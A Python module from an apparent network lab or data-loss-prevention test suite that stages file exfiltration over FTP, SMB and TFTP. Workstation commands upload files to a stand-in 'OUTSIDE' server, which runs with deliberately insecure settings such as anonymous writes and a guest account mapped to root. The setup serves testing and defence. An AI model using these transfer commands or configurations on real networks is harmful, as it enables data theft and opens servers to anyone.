"""Files that leave by file transfer and file sharing."""

import os
import sys

from doors import INSIDE, OUTSIDE, door

VSFTPD = """listen=YES
anonymous_enable=YES
anon_root={root}
write_enable=YES
anon_upload_enable=YES
anon_other_write_enable=YES
anon_umask=022
no_anon_password=YES
secure_chroot_dir={empty}
background=NO
seccomp_sandbox=NO
isolate_network=NO
connect_from_port_20=YES
allow_writeable_chroot=YES
xferlog_enable=NO
"""
SMBD = """[global]
 workgroup = W
 server role = standalone server
 map to guest = Bad User
 guest account = root
 private dir = {state}
 lock directory = {state}
 state directory = {state}
 cache directory = {state}
 pid directory = {state}
 ncalrpc dir = {state}
 log file = {state}log
 disable netbios = yes
 smb ports = 445
 server min protocol = {least}
 client min protocol = NT1
[docs]
 path = {share}
 guest ok = yes
 writable = yes
 force user = root
"""


def vsftpd(stage, host, root):
    empty = stage.path("ftp-empty", "x")[:-1]
    stage.serve(host, 21, "vsftpd", stage.write("vsftpd.conf", VSFTPD.format(root=root, empty=empty)))


def taking_folder(stage, name):
    """A folder below NAME that anyone may write to; its path."""
    home = stage.path(name, "in", "x")[:-1]
    os.chmod(home, 0o777)
    os.chmod(stage.path(name, "x")[:-1], 0o755)
    return home


@door("ftp", "vsftpd", "curl")
def ftp(stage):
    home = taking_folder(stage, "ftp-taken")
    vsftpd(stage, "outside", os.path.dirname(home.rstrip("/")))
    files = stage.files("ftp")
    for i, path in enumerate(files):
        more = [[], ["--disable-epsv"], ["-P", "-"], ["-P", "-", "--disable-eprt"], ["--append"]][i % 5]
        stage.tell("workstation", "curl", "-sSf", *more, "-T", path, f"ftp://{OUTSIDE}/in/{i}.bin")
    return files


FTP_UNIQUE = r"""
import ftplib, sys
ftp = ftplib.FTP(sys.argv[1], "anonymous", "a@", timeout=30)
ftp.cwd("in")
for i, path in enumerate(sys.argv[2:]):
    ftp.set_pasv(i % 2 == 0)
    with open(path, "rb") as file:
        ftp.storbinary("STOU" if i % 3 else "APPE a%d.bin" % i, file, blocksize=1000 + 700 * i)
ftp.quit()
"""


@door("ftp-unique", "vsftpd")
def ftp_unique(stage):
    """STOU, where the server gives the name, and APPE, all in one session."""
    home = taking_folder(stage, "ftp-unique-taken")
    vsftpd(stage, "outside", os.path.dirname(home.rstrip("/")))
    files = stage.files("ftp-unique")
    stage.tell("workstation", sys.executable, "-c", FTP_UNIQUE, OUTSIDE, *files)
    return files


@door("ftp-read", "vsftpd", "curl")
def ftp_read(stage):
    files = stage.files("ftp-read")
    vsftpd(stage, "web", os.path.join(stage.folder, "ftp-read"))
    for i, path in enumerate(files):
        more = [[], ["--disable-epsv"], ["-P", "-"], ["-P", "-", "--disable-eprt"]][i % 4]
        stage.tell("outside", "curl", "-sSf", "-o", "/dev/null", *more, f"ftp://{INSIDE}/" + os.path.basename(path).replace(" ", "%20"))
    return files


def smbd(stage, host, name, share, least="SMB2_02"):
    state = stage.path(name, "state", "x")[:-1]
    conf = stage.write(f"{name}.conf", SMBD.format(state=state, share=share, least=least))
    stage.serve(host, 445, "smbd", "-F", "--no-process-group", "-s", conf, "--debug-stdout")
    return conf


def smb_put(stage, name, least, levels):
    share = taking_folder(stage, name + "-taken")
    conf = smbd(stage, "outside", name, share, least)
    files = stage.files(name)
    for i in range(0, len(files), 5):
        puts = "; ".join(f'put "{path}" "d{k} {k}.bin"' for k, path in enumerate(files[i:i + 5], i))
        level = levels[i // 5 % len(levels)]
        stage.tell("workstation", "smbclient", f"//{OUTSIDE}/docs", "-N", "-m", level, "-s", conf, "-c", puts)
    return files


@door("smb", "smbd", "smbclient")
def smb(stage):
    return smb_put(stage, "smb", "SMB2_02", ["SMB3", "SMB2", "SMB3_11"])


@door("smb1", "smbd", "smbclient")
def smb1(stage):
    return smb_put(stage, "smb1", "NT1", ["NT1"])


@door("smb-read", "smbd", "smbclient")
def smb_read(stage):
    files = stage.files("smb-read")
    os.chmod(os.path.join(stage.folder, "smb-read"), 0o755)
    conf = smbd(stage, "web", "smb-in", os.path.join(stage.folder, "smb-read"), "NT1")
    got = stage.path("smb-got", "x")
    for i in range(0, len(files), 5):
        gets = "; ".join(f'get "{os.path.basename(path)}" "{got}"' for path in files[i:i + 5])
        level = ["SMB3", "SMB2", "NT1"][i // 5 % 3]
        stage.tell("outside", "smbclient", f"//{INSIDE}/docs", "-N", "-m", level, "-s", conf, "-c", gets)
    return files


def tftpd(stage, host, address, folder):
    os.chmod(folder, 0o777)
    stage.serve(host, None, "in.tftpd", "-L", "-c", "-p", "-u", "root", "-s", "-a", f"{address}:69", folder)
    stage.wait(lambda: b":69 " in stage.lab.try_call(host, "ss", "-Hlun").stdout)


@door("tftp", "in.tftpd", "tftp", "curl")
def tftp(stage):
    tftpd(stage, "outside", OUTSIDE, taking_folder(stage, "tftp-taken"))
    files = stage.files("tftp")
    for i, path in enumerate(files):
        if i % 2:
            stage.tell("workstation", "curl", "-sSf", "--tftp-blksize", "1400", "-T", path, f"tftp://{OUTSIDE}/{i}.bin")
        else:
            stage.tell("workstation", "tftp", OUTSIDE, "-m", "binary", "-c", "put", path, f"{i}.bin")
    return files


@door("tftp-read", "in.tftpd", "tftp", "curl")
def tftp_read(stage):
    files = stage.files("tftp-read")
    tftpd(stage, "web", INSIDE, os.path.join(stage.folder, "tftp-read"))
    for i, path in enumerate(files):
        name = os.path.basename(path)
        if i % 2:
            stage.tell("outside", "curl", "-sSf", "-o", "/dev/null", "--tftp-blksize", "1400", f"tftp://{INSIDE}/{name}".replace(" ", "%20"))
        else:
            stage.tell("outside", "tftp", INSIDE, "-m", "binary", "-c", "get", name, "/dev/null")
    return files
